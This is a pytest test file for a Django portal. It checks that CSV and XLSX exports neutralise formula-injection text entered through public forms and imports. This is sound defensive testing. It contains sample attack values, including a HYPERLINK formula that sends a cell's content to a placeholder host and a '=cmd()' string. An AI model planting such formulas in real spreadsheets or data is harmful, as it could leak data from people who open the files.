"""No spreadsheet the portal writes can attack its reader (CSV or formula injection).

Text typed into the public forms or an import file comes out of every CSV and XLSX export with
a leading single quote when it starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return, and an XLSX file stores it as text, never as a formula. Numbers, dates and booleans stay
typed values.
"""

import datetime
import decimal

import pytest
from django.urls import reverse
from django.utils.functional import lazy
from openpyxl import Workbook

from events.models import Registration
from lotsen.core.exports import safe_cell, xlsx_cell
from lotsen.models.guides import Guide
from newsletters.models import Subscriber
from organisations.models import MigrantOrganisation, NeedsAnswer
from tests.factories import (
    AgencyFactory,
    EventFactory,
    OrganisationFactory,
    RegionFactory,
    RegistrationFactory,
    UserFactory,
)
from tests.imports.helpers import csv_bytes, token_of, upload
from tests.organisations.needs_world import invite, make_version, post_data
from tests.spreadsheets import (
    FORMULA_PREFIXES,
    PAYLOADS,
    csv_rows,
    escaped,
    response_text,
    unsafe_csv_cells,
    unsafe_xlsx_cells,
    xlsx_texts,
)

# --- The helper -----------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_text_starting_with_a_formula_character_gets_a_quote(prefix):
    assert safe_cell(prefix + "1+1") == "'" + prefix + "1+1"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_attackers_texts_are_neutralised(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    [
        0,
        42,
        -5,
        -0.5,
        3.25,
        decimal.Decimal("-1.50"),
        True,
        False,
        None,
        datetime.date(2026, 1, 31),
        datetime.datetime(2026, 1, 31, 12, 30),
        datetime.time(9, 15),
    ],
)
def test_numbers_dates_and_booleans_stay_typed_values(value):
    result = safe_cell(value)
    assert result is value or (result == value and type(result) is type(value))


@pytest.mark.parametrize(
    "text", ["Amina Yilmaz", "0176 1234567", "42", "'=already quoted", "", " =1+1", "a=b", "Ü-Bahn"]
)
def test_other_text_is_untouched(text):
    assert safe_cell(text) == text


def test_a_lone_minus_or_plus_is_quoted_too():
    # OWASP's rule looks only at the first character; a quote in front of "-" costs nothing.
    assert (safe_cell("-"), safe_cell("+"), safe_cell("=")) == ("'-", "'+", "'=")


def test_a_negative_number_as_text_is_quoted_but_a_number_is_not():
    assert safe_cell("-5") == "'-5"
    assert safe_cell(-5) == -5


def test_other_objects_are_written_as_their_text():
    class Named:
        def __str__(self):
            return "=cmd()"

    assert safe_cell(Named()) == "'=cmd()"
    assert safe_cell(lazy(lambda: "@SUM(1)", str)()) == "'@SUM(1)"
    assert safe_cell(lazy(lambda: "Name", str)()) == "Name"


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_cells_hold_text_as_text(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("Blatt")
    cells = [xlsx_cell(sheet, value) for value in ["=1+1", "#N/A", "Name", -5, 2.5, None]]

    assert [cell.data_type for cell in cells[:3]] == ["s", "s", "s"]
    assert [cell.value for cell in cells] == ["'=1+1", "#N/A", "Name", -5, 2.5, None]
    assert (cells[3].data_type, cells[4].data_type) == ("n", "n")


# --- Through the public forms ---------------------------------------------------------------


@pytest.fixture
def on_commit(django_capture_on_commit_callbacks):
    return lambda: django_capture_on_commit_callbacks(execute=True)


def assert_export_is_safe(client, url: str, stored: set[str]) -> None:
    """Both downloads of ``url``: no cell a formula, every stored text there with its quote."""
    rows = csv_rows(response_text(client.get(url, {"export": "csv"})))
    assert unsafe_csv_cells(rows) == []
    cells = {cell for row in rows for cell in row}
    assert {escaped(value) for value in stored} <= cells

    content = client.get(url, {"export": "xlsx"}).content
    assert unsafe_xlsx_cells(content) == []
    # XML reads a carriage return in a text back as a line feed.
    assert {escaped(value).replace("\r", "\n") for value in stored} <= xlsx_texts(content)


def test_registrations_export_neutralises_what_visitors_typed(
    client, coordinator, region, on_commit
):
    event = EventFactory(region=region, is_public=True, takes_registrations=True, capacity=None)
    for number, payload in enumerate(PAYLOADS):
        with on_commit():
            response = client.post(
                reverse("calendar:register", args=[event.pk]),
                {
                    "name": payload,
                    "email": f"person{number}@example.org",
                    "organisation": payload,
                    "interpreting": payload,
                    "accessibility": payload,
                    "consent": "on",
                },
            )
        assert response.status_code == 302, response.context["form"].errors
    # The form strips leading white space; a tab or carriage return can still reach the
    # database another way (the admin, an older version), and must not reach the export.
    RegistrationFactory(event=event, name="\t=3+3", organisation="\r-4+4")
    stored = {
        value
        for registration in Registration.objects.filter(event=event)
        for value in (
            registration.name,
            registration.organisation,
            registration.interpreting,
            registration.accessibility,
        )
    }
    stored.discard("")
    assert len(stored) >= len(PAYLOADS) and all(v.startswith(FORMULA_PREFIXES) for v in stored)

    client.force_login(coordinator)
    assert_export_is_safe(client, reverse("events:registrations", args=[event.pk]), stored)


def test_subscriber_export_neutralises_what_partners_typed(client, db, on_commit):
    for number, payload in enumerate(PAYLOADS):
        with on_commit():
            response = client.post(
                reverse("subscriptions:subscribe"),
                {
                    # An address may start with "=", "+" or "-" too (RFC 5322 allows them).
                    "email": f"{'=+-'[number % 3]}p{number}@example.org",
                    "name": payload,
                    "organisation": payload,
                    "language": "de",
                    "consent": "on",
                },
            )
        assert response.status_code == 302, response.context["form"].errors
    stored = {
        value
        for subscriber in Subscriber.objects.all()
        for value in (subscriber.email, subscriber.name, subscriber.organisation)
    }
    stored.discard("")
    assert len(stored) >= len(PAYLOADS) * 2 and all(v.startswith(FORMULA_PREFIXES) for v in stored)

    client.force_login(UserFactory(email="landeskoordination@example.org", role="admin"))
    assert_export_is_safe(client, reverse("subscriptions:list"), stored)


def test_needs_assessment_export_neutralises_what_organisations_typed(client, admin_user, region):
    version = make_version()
    for payload in PAYLOADS:
        invitation = invite(version, OrganisationFactory(region=region))
        data = post_data(version, topics=["Vereinsrecht"], text=payload, action="submit")
        response = client.post(reverse("needs:answer", args=[invitation.token]), data)
        assert response.status_code == 302
    stored = set(NeedsAnswer.objects.exclude(text="").values_list("text", flat=True))
    assert len(stored) == len(PAYLOADS) and all(v.startswith(FORMULA_PREFIXES) for v in stored)

    client.force_login(admin_user)
    assert_export_is_safe(client, reverse("needs:results"), stored)


# --- Through an import ----------------------------------------------------------------------


def import_csv(client, region, kind: str, rows: list[list[str]]) -> None:
    token = token_of(upload(client, csv_bytes(rows), kind=kind, region=region))
    response = client.post(reverse("imports:confirm"), {"token": token})
    assert response.status_code == 200
    assert response.context["plan"].counts["error"] == 0


def imported_payloads(rows, *fields: str) -> set[str]:
    """The non-empty values of ``fields`` the import stored, each one of the payloads."""
    stored = {value for row in rows.values_list(*fields) for value in row if value}
    assert len(stored) >= len(PAYLOADS) * 2 and all(v.startswith(FORMULA_PREFIXES) for v in stored)
    return stored


def test_organisation_list_export_neutralises_imported_text(client, coordinator, region):
    client.force_login(coordinator)
    import_csv(
        client,
        region,
        "organisations",
        [["Name", "Ort", "Straße", "Telefon"]]
        + [
            [f"{payload} {n}", payload, payload, f"+49 234 {n}"]
            for n, payload in enumerate(PAYLOADS)
        ],
    )
    stored = imported_payloads(
        MigrantOrganisation.objects.filter(region=region), "name", "city", "street"
    )

    assert_export_is_safe(client, reverse("organisations:list"), stored)


def test_guide_list_export_neutralises_imported_text(client, coordinator, region):
    client.force_login(coordinator)
    import_csv(
        client,
        region,
        "guides",
        [["Vorname", "Nachname", "Telefon"]]
        + [[payload, f"-Nachname {n}", f"+49 176 {n}"] for n, payload in enumerate(PAYLOADS)],
    )
    stored = imported_payloads(
        Guide.objects.filter(region=region), "first_name", "last_name", "phone"
    )

    assert_export_is_safe(client, reverse("guides:list"), stored)


def test_import_template_holds_no_formula(client, coordinator):
    region = RegionFactory(name='=HYPERLINK("http://x?x="&A1;"Klick")')
    region.coordinators.add(coordinator)
    client.force_login(coordinator)

    for kind in ("organisations", "guides"):
        content = client.get(reverse("imports:template", args=[kind])).content
        assert unsafe_xlsx_cells(content) == []
        assert escaped(region.name) in xlsx_texts(content)


# --- The other list exports (same ExportMixin, text typed by coordinators) ------------------


def test_event_and_agency_list_exports_neutralise_their_text(client, coordinator, region):
    for payload in PAYLOADS:
        EventFactory(region=region, title=payload, venue=payload, city=payload)
        AgencyFactory(regions=[region], name=payload, street=payload, city=payload)
    client.force_login(coordinator)

    assert_export_is_safe(client, reverse("events:list"), set(PAYLOADS))
    assert_export_is_safe(client, reverse("organisations:agency-list"), set(PAYLOADS))
